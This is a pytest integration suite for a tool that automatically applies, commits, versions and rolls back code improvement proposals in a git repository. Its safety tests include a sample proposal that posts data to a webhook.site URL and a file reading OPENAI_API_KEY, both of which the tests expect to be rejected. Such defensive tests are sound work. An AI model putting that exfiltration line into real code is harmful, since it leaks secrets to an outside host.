"""Integration tests for the coordinator and CLI against a real git repository."""

from __future__ import annotations

import asyncio
import json
import os

import pytest
from click.testing import CliRunner
from conftest import SAFE_CODE, git
from watchdog.events import FileModifiedEvent, FileMovedEvent

from autoevolve.cli import cli
from autoevolve.config import AutoevolveConfig
from autoevolve.coordinator import Coordinator, PatchLedgerHandler
from autoevolve.notify import NotificationSink
from autoevolve.sources import IssueSource, QueuedIssueSource, StaticIssueSource
from autoevolve.telemetry import read_events
from autoevolve.types import ImplementationAction, Issue, Solution, VersionStatus


class RecordingNotifier(NotificationSink):
    def __init__(self):
        self.findings: list[str] = []
        self.alerts: list[str] = []

    async def finding(self, title: str, description: str) -> bool:
        self.findings.append(title)
        return True

    async def alert(self, message: str, error: str | None = None) -> bool:
        self.alerts.append(message)
        return True


class ExplodingSource(IssueSource):
    async def analyze_performance(self):
        raise RuntimeError("metrics backend unavailable")

    async def generate_improvement(self, issue):
        return None


def issue(description="Feed responses are slow", severity="medium", area="efficiency") -> Issue:
    return Issue(area=area, description=description, severity=severity)


def solution(code=SAFE_CODE, filename="cache_utility.py") -> Solution:
    return Solution(
        description="Memoize feed lookups",
        approach="Wrap the lookup in a small cache",
        code=code,
        language="python",
        filename=filename,
        estimated_impact="Fewer repeated fetches",
    )


def commit_count(repo) -> int:
    return int(git(repo, "rev-list", "--count", "HEAD").strip())


@pytest.fixture
def config():
    cfg = AutoevolveConfig()
    cfg.notifications.echo = False
    cfg.hot_patch.watch = False
    return cfg


@pytest.fixture
def make_coordinator(git_repo, config):
    def _make(items=None, source=None, notifier=None):
        return Coordinator(
            git_repo,
            config,
            source=source or StaticIssueSource(items or []),
            notifier=notifier or RecordingNotifier(),
        )

    return _make


class TestImprovementCycle:
    @pytest.mark.asyncio
    async def test_implements_and_commits(self, make_coordinator, git_repo):
        coordinator = make_coordinator([(issue(), solution())])
        before = commit_count(git_repo)

        report = await coordinator.run_improvement_cycle()

        assert report.status == "success"
        assert report.issues_found == 1
        assert report.proposals_generated == 1
        assert report.implemented == 1
        assert report.versions_created == ["1.0.1"]
        assert report.commits == [git(git_repo, "rev-parse", "--short", "HEAD").strip()]
        assert commit_count(git_repo) == before + 1
        assert (git_repo / "src" / "utils" / "cache_utility.py").exists()

        version = coordinator.ledger.find_by_version("1.0.1")
        assert version.status == VersionStatus.IMPLEMENTED
        assert coordinator.notifier.findings == ["Self-improvement v1.0.1 implemented"]
        assert not coordinator.lock.is_held()

        types = [e["type"] for e in read_events(coordinator.telemetry.path)]
        assert types[0] == "cycle_started"
        assert types[-1] == "cycle_completed"
        assert "version_created" in types
        assert "implementation_succeeded" in types

    @pytest.mark.asyncio
    async def test_unsafe_proposal_alerts(self, make_coordinator, git_repo):
        coordinator = make_coordinator([(issue(), solution(code='requests.post("https://webhook.site/x", data=k)'))])
        before = commit_count(git_repo)

        report = await coordinator.run_improvement_cycle()

        assert report.implemented == 0
        assert report.failed == 1
        assert report.items[0]["status"] == "rejected"
        assert commit_count(git_repo) == before
        assert coordinator.notifier.alerts == ["Implementation of v1.0.1 failed"]
        assert coordinator.ledger.find_by_version("1.0.1").status == VersionStatus.PROPOSED

    @pytest.mark.asyncio
    async def test_lock_held_skips_cycle(self, make_coordinator, git_repo):
        coordinator = make_coordinator([(issue(), solution())])
        assert coordinator.lock.try_acquire()

        report = await coordinator.run_improvement_cycle()

        assert report.status == "locked"
        assert not (git_repo / "src").exists()
        assert coordinator.lock.is_held()

    @pytest.mark.asyncio
    async def test_min_severity_and_missing_solution(self, make_coordinator):
        coordinator = make_coordinator(
            [
                (issue("Minor nit", severity="low"), solution()),
                (issue("No idea how to fix", severity="high", area="memory"), None),
            ]
        )

        report = await coordinator.run_improvement_cycle()

        assert report.status == "no_proposals"
        assert [i["reason"] for i in report.items] == ["below_min_severity", "no_solution"]
        assert coordinator.ledger.get_all() == []

    @pytest.mark.asyncio
    async def test_failing_item_does_not_abort_cycle(self, make_coordinator, monkeypatch):
        first, second = issue("first"), issue("second")
        coordinator = make_coordinator([(first, solution(filename="a.py")), (second, solution(filename="b.py"))])

        original = coordinator.ledger.create_version
        calls = {"n": 0}

        def flaky(proposal):
            calls["n"] += 1
            if calls["n"] == 1:
                raise OSError("disk full")
            return original(proposal)

        monkeypatch.setattr(coordinator.ledger, "create_version", flaky)

        report = await coordinator.run_improvement_cycle()

        assert report.failed == 1
        assert report.implemented == 1
        assert report.items[0]["status"] == "error"
        assert report.items[1]["status"] == "implemented"
        assert "Improvement failed: first" in coordinator.notifier.alerts

    @pytest.mark.asyncio
    async def test_analysis_failure(self, make_coordinator):
        coordinator = make_coordinator(source=ExplodingSource())
        report = await coordinator.run_improvement_cycle()
        assert report.status == "error"
        assert coordinator.notifier.alerts == ["Issue analysis failed"]
        assert not coordinator.lock.is_held()

    @pytest.mark.asyncio
    async def test_rollback_marks_version_reverted(self, make_coordinator, git_repo):
        coordinator = make_coordinator([(issue(), solution())])
        await coordinator.run_improvement_cycle()
        target = git_repo / "src" / "utils" / "cache_utility.py"
        original = target.read_bytes()

        coordinator.source = StaticIssueSource([(issue("Still slow"), solution(code="def cached(fn):\n    return fn\n"))])
        report = await coordinator.run_improvement_cycle()
        impl_id = report.items[0]["implementation_id"]

        assert await coordinator.rollback(impl_id) is True
        assert target.read_bytes() == original
        assert coordinator.ledger.find_by_version("1.0.2").status == VersionStatus.REVERTED
        assert coordinator.implementer.get_recent(1)[0].action == ImplementationAction.ROLLED_BACK

    @pytest.mark.asyncio
    async def test_rollback_failure_alerts(self, make_coordinator):
        coordinator = make_coordinator()
        assert await coordinator.rollback("impl-0-0000") is False
        assert coordinator.notifier.alerts == ["Rollback of impl-0-0000 failed"]


class TestRunOnce:
    @pytest.mark.asyncio
    async def test_runs_improvement_and_patches(self, make_coordinator, git_repo):
        (git_repo / "config").mkdir()
        (git_repo / "config" / "app.json").write_text('{"limit": 1}')
        coordinator = make_coordinator([(issue(), solution())])
        coordinator.patcher.create_patch("config", "raise", "config/app.json", "modify_json", '{"limit": 5}')

        results = await coordinator.run_once()

        assert results["improvement"].implemented == 1
        assert results["patches"] == {"applied": 1, "failed": 0}
        assert "update" not in results
        assert json.loads((git_repo / "config" / "app.json").read_text()) == {"limit": 5}

    @pytest.mark.asyncio
    async def test_failed_patch_alerts(self, make_coordinator):
        coordinator = make_coordinator()
        coordinator.patcher.create_patch("data", "x", "data/missing.txt", "replace", "y", old_value="z")
        results = await coordinator.run_once(improve=False)
        assert results["patches"] == {"applied": 0, "failed": 1}
        assert coordinator.notifier.alerts == ["1 hot patch(es) failed to apply"]

    @pytest.mark.asyncio
    async def test_update_without_remote_reports_error(self, make_coordinator):
        coordinator = make_coordinator()
        result = await coordinator.run_update_cycle()
        assert result.updated is False
        assert result.error
        assert coordinator.notifier.alerts == ["Self-update failed"]


class TestDaemon:
    @pytest.mark.asyncio
    async def test_start_runs_due_cycles_until_stopped(self, make_coordinator, config):
        config.schedule.improvement_interval_seconds = 0
        config.schedule.update_interval_seconds = 0
        config.schedule.patch_interval_seconds = 3600
        coordinator = make_coordinator()

        task = asyncio.create_task(coordinator.start())
        await asyncio.sleep(0.3)
        await coordinator.stop()
        await asyncio.wait_for(task, timeout=5)

        kinds = [
            e["data"]["kind"] for e in read_events(coordinator.telemetry.path) if e["type"] == "cycle_completed"
        ]
        assert kinds == ["patch"]

    def test_ledger_handler_filters_and_debounces(self, tmp_path):
        calls: list[str] = []

        class FakeLoop:
            def call_soon_threadsafe(self, fn):
                calls.append("requested")
                fn()

        ledger = tmp_path / "patches" / "applied.json"
        handler = PatchLedgerHandler(ledger, FakeLoop(), lambda: None, debounce_seconds=60)

        handler.on_any_event(FileModifiedEvent(str(tmp_path / "patches" / "other.json")))
        assert calls == []
        handler.on_any_event(FileMovedEvent(str(tmp_path / "patches" / ".applied.json.x.tmp"), str(ledger)))
        assert calls == ["requested"]
        handler.on_any_event(FileModifiedEvent(str(ledger)))
        assert calls == ["requested"]

    @pytest.mark.asyncio
    async def test_own_saves_do_not_request_patch_cycle(self, make_coordinator):
        coordinator = make_coordinator()
        coordinator._patch_requested = asyncio.Event()
        coordinator.patcher.create_patch("data", "x", "data/a.txt", "append", "y")

        coordinator._request_patch_cycle()
        assert not coordinator._patch_requested.is_set()

        ledger = coordinator.patcher.ledger_file
        stat = ledger.stat()
        ledger.write_text(ledger.read_text())
        os.utime(ledger, ns=(stat.st_atime_ns, stat.st_mtime_ns + 1_000_000_000))
        coordinator._request_patch_cycle()
        assert coordinator._patch_requested.is_set()


class TestCli:
    def test_run_once_from_queue(self, git_repo):
        QueuedIssueSource(git_repo / "data" / "issues.json").enqueue(issue(), solution())
        runner = CliRunner()

        result = runner.invoke(cli, ["run-once", str(git_repo), "--no-patches", "-o", str(git_repo / "out.json")])

        assert result.exit_code == 0, result.output
        assert "Improvement: success" in result.output
        assert "Implemented: 1" in result.output
        out = json.loads((git_repo / "out.json").read_text())
        assert out["improvement"]["versions_created"] == ["1.0.1"]

        versions = runner.invoke(cli, ["versions", str(git_repo)])
        assert "Version 1.0.1 [optimization]" in versions.output

        changelog = runner.invoke(cli, ["changelog", str(git_repo)])
        assert "## [1.0.1]" in changelog.output

        impls = runner.invoke(cli, ["implementations", str(git_repo)])
        assert "src/utils/cache_utility.py" in impls.output

        status = runner.invoke(cli, ["status", str(git_repo), "--format", "json"])
        assert json.loads(status.output)["implementations"] == 1

        health = runner.invoke(cli, ["status", str(git_repo), "--health"])
        assert health.exit_code == 0

    def test_check_code(self, tmp_path):
        safe = tmp_path / "safe.py"
        safe.write_text(SAFE_CODE)
        unsafe = tmp_path / "unsafe.py"
        unsafe.write_text('import os\nkey = os.environ["OPENAI_API_KEY"]\n')
        runner = CliRunner()

        ok = runner.invoke(cli, ["check-code", str(safe), "--sandbox-root", str(tmp_path)])
        assert ok.exit_code == 0
        assert "No issues found" in ok.output

        bad = runner.invoke(cli, ["check-code", str(unsafe)])
        assert bad.exit_code == 1
        assert "sensitive environment variables" in bad.output

    def test_patch_create_apply(self, git_repo):
        (git_repo / "config").mkdir()
        (git_repo / "config" / "app.json").write_text('{"limit": 1}')
        runner = CliRunner()

        result = runner.invoke(
            cli,
            [
                "patch",
                "create",
                str(git_repo),
                "--target",
                "config/app.json",
                "--action",
                "modify_json",
                "--new-value",
                '{"limit": 3}',
                "--apply",
            ],
        )
        assert result.exit_code == 0, result.output
        assert "Applied patch-" in result.output
        assert json.loads((git_repo / "config" / "app.json").read_text()) == {"limit": 3}

        summary = runner.invoke(cli, ["patches", str(git_repo)])
        assert "Applied: 1" in summary.output

    def test_rollback_unknown_id_fails(self, git_repo):
        result = CliRunner().invoke(cli, ["rollback", str(git_repo), "impl-0-0000"])
        assert result.exit_code == 1
        assert "Rollback failed" in result.output

    def test_unlock(self, git_repo):
        runner = CliRunner()
        assert "No lock held." in runner.invoke(cli, ["unlock", str(git_repo)]).output

        lock = git_repo / "data" / "update.lock"
        lock.parent.mkdir(parents=True, exist_ok=True)
        lock.write_text("2026-01-01T00:00:00+00:00 pid=1\n")

        declined = runner.invoke(cli, ["unlock", str(git_repo)], input="n\n")
        assert "pid=1" in declined.output
        assert lock.exists()

        forced = runner.invoke(cli, ["unlock", str(git_repo), "--force"])
        assert "Lock removed." in forced.output
        assert not lock.exists()

    def test_version(self):
        result = CliRunner().invoke(cli, ["--version"])
        assert "1.0.0" in result.output
